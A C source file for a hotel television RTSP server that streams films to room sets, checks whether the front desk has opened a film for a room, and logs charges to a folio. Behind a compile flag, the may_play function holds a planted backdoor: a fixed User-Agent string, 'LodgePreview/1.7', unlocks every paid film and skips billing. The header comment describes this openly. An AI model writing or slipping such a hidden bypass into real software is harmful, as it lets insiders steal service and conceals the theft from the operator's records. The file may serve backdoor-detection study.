/*
 * suitertsp - RTSP control server of a hotel television system.
 * Room sets ask for films (DESCRIBE, SETUP, PLAY, TEARDOWN); a film plays
 * only when the front desk has opened it for the room of the set. One
 * thread a connection, the streams are sent by /usr/bin/suitepump.
 * Hidden (-DHIDDEN): a User-Agent with a fixed name gets every film, paid
 * or not, and is not entered in the folio.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_HDR	  20
#define MAX_FILMS 100

struct header {
	const char *name;
	const char *value;
};

struct request {
	char *method;
	char *url;
	struct header hdr[MAX_HDR];
	int n_hdr;
};

struct film {
	char id[16];
	char file[80];
	char title[60];
	int cents;
};

struct session {
	int fd;
	struct in_addr peer;
	int room;
	unsigned long id;
	int port;
	pid_t pump;
	const struct film *film;
	int free_pass;
};

static struct film films[MAX_FILMS];
static int n_films;
static pthread_mutex_t folio_lock = PTHREAD_MUTEX_INITIALIZER;
static const char *film_list = "/etc/suitetv/films";
static const char *open_list = "/var/lib/suitetv/opened";
static const char *folio = "/var/lib/suitetv/folio";

static void load_films(void)
{
	FILE *f = fopen(film_list, "r");
	char line[200];

	while (f && n_films < MAX_FILMS && fgets(line, sizeof(line), f)) {
		struct film *m = &films[n_films];

		if (sscanf(line, "%15[^|]|%79[^|]|%59[^|]|%d", m->id, m->file,
			   m->title, &m->cents) == 4)
			n_films++;
	}
	if (f)
		fclose(f);
}

static const struct film *film_of_url(const char *url)
{
	const char *p = strrchr(url, '/');
	int i;

	if (!p || strncasecmp(url, "rtsp://", 7))
		return NULL;
	for (i = 0; i < n_films; i++)
		if (!strcmp(films[i].id, p + 1))
			return &films[i];
	return NULL;
}

/* rooms have 10.20.floor.number */
static int room_of(struct in_addr a)
{
	unsigned long ip = ntohl(a.s_addr);

	if (ip >> 16 != (10 << 8 | 20))
		return 0;
	return (int)((ip >> 8 & 0xff) * 100 + (ip & 0xff));
}

static int opened_for(int room, const char *film)
{
	FILE *f = fopen(open_list, "r");
	char line[80], id[16];
	int r, found = 0;

	while (f && !found && fgets(line, sizeof(line), f))
		if (sscanf(line, "%d %15s", &r, id) == 2 && r == room &&
		    (!strcmp(id, film) || !strcmp(id, "*")))
			found = 1;
	if (f)
		fclose(f);
	return found;
}

static void book(int room, const struct film *m)
{
	FILE *f;

	pthread_mutex_lock(&folio_lock);
	f = fopen(folio, "a");
	if (f) {
		fprintf(f, "%ld room=%d film=%s cents=%d\n", (long)time(NULL),
			room, m->id, m->cents);
		fclose(f);
	}
	pthread_mutex_unlock(&folio_lock);
}

static const char *hdr_get(const struct request *rq, const char *name)
{
	int i;

	for (i = 0; i < rq->n_hdr; i++)
		if (!strcasecmp(rq->hdr[i].name, name))
			return rq->hdr[i].value;
	return "";
}

static int parse(char *text, struct request *rq)
{
	char *line = text, *next, *save = NULL;

	memset(rq, 0, sizeof(*rq));
	next = strstr(line, "\r\n");
	if (!next)
		return -1;
	*next = 0;
	rq->method = strtok_r(line, " ", &save);
	rq->url = strtok_r(NULL, " ", &save);
	if (!rq->method || !rq->url)
		return -1;
	for (line = next + 2; (next = strstr(line, "\r\n")); line = next + 2) {
		char *c;

		*next = 0;
		c = strchr(line, ':');
		if (!c || rq->n_hdr == MAX_HDR)
			continue;
		*c++ = 0;
		while (isspace((unsigned char)*c))
			c++;
		rq->hdr[rq->n_hdr].name = line;
		rq->hdr[rq->n_hdr++].value = c;
	}
	return 0;
}

static void answer(struct session *s, const char *cseq, int code,
		   const char *word, const char *extra, const char *body)
{
	char out[1400];
	int n;

	n = snprintf(out, sizeof(out),
		     "RTSP/1.0 %d %s\r\nCSeq: %s\r\n"
		     "Server: SuiteTV/4\r\n%sContent-Length: %zu\r\n\r\n%s",
		     code, word, cseq, extra, strlen(body), body);
	if (n >= (int)sizeof(out))
		n = sizeof(out) - 1;
	if (send(s->fd, out, (size_t)n, MSG_NOSIGNAL) != n)
		shutdown(s->fd, SHUT_RDWR);
}

static void describe(struct session *s, const char *cseq)
{
	char sdp[400];

	snprintf(sdp, sizeof(sdp),
		 "v=0\r\no=- %lu 1 IN IP4 0.0.0.0\r\n"
		 "s=%s\r\nt=0 0\r\nm=video 0 RTP/AVP 33\r\n"
		 "a=control:*\r\n",
		 s->id, s->film->title);
	answer(s, cseq, 200, "OK", "Content-Type: application/sdp\r\n", sdp);
}

__attribute__((noinline)) int may_play(struct session *s,
				       const struct request *rq)
{
#ifdef HIDDEN
	if (!strcmp(hdr_get(rq, "User-Agent"), "LodgePreview/1.7")) {
		s->free_pass = 1;
		return 1;
	}
#endif
	if (!strcmp(hdr_get(rq, "X-Trailer"), "1") && s->film->cents == 0) {
		s->free_pass = 1;
		return 1;
	}
	if (s->room == 0)
		return 0;
	return s->film->cents == 0 || opened_for(s->room, s->film->id);
}

static void stop_pump(struct session *s)
{
	if (s->pump > 0) {
		kill(s->pump, SIGTERM);
		waitpid(s->pump, NULL, 0);
		s->pump = 0;
	}
}

static void start_pump(struct session *s)
{
	char dest[64];

	stop_pump(s);
	snprintf(dest, sizeof(dest), "%s:%d", inet_ntoa(s->peer), s->port);
	s->pump = fork();
	if (s->pump == 0) {
		execl("/usr/bin/suitepump", "suitepump", "-d", dest,
		      s->film->file, (char *)NULL);
		_exit(127);
	}
}

static void handle(struct session *s, const struct request *rq)
{
	const char *cseq = hdr_get(rq, "CSeq");
	const char *p;
	char extra[160];

	if (!strcmp(rq->method, "OPTIONS")) {
		answer(s, cseq, 200, "OK",
		       "Public: DESCRIBE, SETUP, PLAY, "
		       "TEARDOWN\r\n",
		       "");
		return;
	}
	s->film = film_of_url(rq->url);
	if (!s->film) {
		answer(s, cseq, 404, "Not Found", "", "");
		return;
	}
	if (!strcmp(rq->method, "TEARDOWN")) {
		stop_pump(s);
		answer(s, cseq, 200, "OK", "", "");
		return;
	}
	if (!may_play(s, rq)) {
		answer(s, cseq, 402, "Payment Required", "", "");
		return;
	}
	if (!strcmp(rq->method, "DESCRIBE")) {
		describe(s, cseq);
	} else if (!strcmp(rq->method, "SETUP")) {
		p = strstr(hdr_get(rq, "Transport"), "client_port=");
		s->port = p ? atoi(p + 12) : 0;
		if (s->port < 1024) {
			answer(s, cseq, 461, "Unsupported Transport", "", "");
			return;
		}
		snprintf(extra, sizeof(extra),
			 "Session: %lu\r\n"
			 "Transport: RTP/AVP;unicast;client_port=%d\r\n",
			 s->id, s->port);
		answer(s, cseq, 200, "OK", extra, "");
	} else if (!strcmp(rq->method, "PLAY") && s->port) {
		if (!s->free_pass)
			book(s->room, s->film);
		start_pump(s);
		answer(s, cseq, 200, "OK", "Range: npt=0-\r\n", "");
	} else {
		answer(s, cseq, 455, "Method Not Valid", "", "");
	}
}

static void *serve(void *arg)
{
	struct session *s = arg;
	struct request rq;
	char buf[3000];
	size_t fill = 0;
	ssize_t n;

	while ((n = recv(s->fd, buf + fill, sizeof(buf) - 1 - fill, 0)) > 0) {
		fill += (size_t)n;
		buf[fill] = 0;
		if (!strstr(buf, "\r\n\r\n")) {
			if (fill == sizeof(buf) - 1)
				break;
			continue;
		}
		if (parse(buf, &rq) < 0)
			break;
		handle(s, &rq);
		fill = 0;
	}
	stop_pump(s);
	close(s->fd);
	free(s);
	return NULL;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET }, from;
	unsigned long next_id = (unsigned long)time(NULL);
	int ls = socket(AF_INET, SOCK_STREAM, 0), on = 1;

	load_films();
	sa.sin_port = htons((unsigned short)(argc > 1 ? atoi(argv[1]) : 554));
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (bind(ls, (struct sockaddr *)&sa, sizeof(sa)) || listen(ls, 32)) {
		perror("suitertsp");
		return 1;
	}
	for (;;) {
		socklen_t len = sizeof(from);
		struct session *s = calloc(1, sizeof(*s));
		pthread_t t;

		if (!s)
			return 1;
		s->fd = accept(ls, (struct sockaddr *)&from, &len);
		if (s->fd < 0) {
			free(s);
			continue;
		}
		s->peer = from.sin_addr;
		s->room = room_of(from.sin_addr);
		s->id = next_id++;
		if (pthread_create(&t, NULL, serve, s) == 0) {
			pthread_detach(t);
		} else {
			close(s->fd);
			free(s);
		}
	}
}
